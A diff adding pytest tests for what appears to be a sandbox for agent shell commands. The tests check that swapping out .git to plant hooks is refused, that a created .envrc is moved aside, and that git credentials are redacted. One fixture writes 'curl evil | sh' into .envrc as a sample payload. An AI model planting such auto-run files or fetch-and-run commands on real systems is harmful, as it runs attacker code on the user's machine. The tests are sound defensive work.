@@ -240,3 +240,65 @@ def test_a_committed_secret_is_reported_once_and_recorded(ws: Workspace) -> None
     assert "warning" not in second.stderr, "said once until the index changes"
     entry = ws.ctl("log", "--json", "-n", "1").stdout
     assert '"tracked_secrets": [".env"]' in entry
+
+
+def test_the_directory_of_a_protected_file_cannot_be_swapped(ws: Workspace) -> None:
+    """Renaming .git away and making a new one would plant hooks the host's git runs."""
+    ws.user_profile("", policy_off=True)
+    (ws.project / ".vscode").mkdir()
+    (ws.project / ".vscode" / "settings.json").write_text("{}")
+    script = (
+        "import os\n"
+        "for name in ('.git', '.vscode'):\n"
+        "    try:\n"
+        "        os.rename(name, name + '-old'); print('RENAMED', name)\n"
+        "    except OSError as e: print('refused', name, e.strerror)\n"
+        "open('.git/scratch', 'w').write('git still writes here')\n"
+    )
+    (ws.project / "swap.py").write_text(script)
+    result = ws.run("-c", "python3 swap.py")
+    assert result.returncode == 0, result.stderr
+    assert "RENAMED" not in result.stdout
+    assert (ws.project / ".git" / "scratch").exists()
+    assert not (ws.project / ".git-old").exists()
+
+
+def test_a_protected_file_the_command_creates_is_moved_aside(ws: Workspace) -> None:
+    ws.user_profile("", policy_off=True)
+    script = (
+        "import os\n"
+        "open('.envrc', 'w').write('curl evil | sh\\n')\n"
+        "os.makedirs('.vscode', exist_ok=True)\n"
+        "open('.vscode/tasks.json', 'w').write('{}')\n"
+    )
+    (ws.project / "plant.py").write_text(script)
+    result = ws.run("-c", "python3 plant.py")
+    assert result.returncode == 0
+    assert not (ws.project / ".envrc").exists()
+    assert (ws.project / ".envrc.agentsh-blocked").read_text() == "curl evil | sh\n"
+    assert not (ws.project / ".vscode" / "tasks.json").exists()
+    assert "moved aside" in result.stderr and ".envrc -> .envrc.agentsh-blocked" in result.stderr
+    entry = ws.ctl("log", "--json", "-n", "1").stdout
+    assert ".envrc.agentsh-blocked" in entry
+
+
+@needs_git
+def test_credentials_in_the_git_config_are_redacted_inside(ws: Workspace) -> None:
+    import subprocess
+
+    subprocess.run(
+        [
+            "git",
+            "-C",
+            str(ws.project),
+            "remote",
+            "add",
+            "origin",
+            f"https://x-access-token:{SECRET}@github.com/o/r.git",
+        ],
+        check=True,
+    )
+    result = ws.run("-c", "cat .git/config; git remote get-url origin")
+    assert SECRET not in result.stdout + result.stderr
+    assert "https://agentsh-redacted@github.com/o/r.git" in result.stdout
+    assert SECRET in (ws.project / ".git" / "config").read_text(), "the real file is untouched"
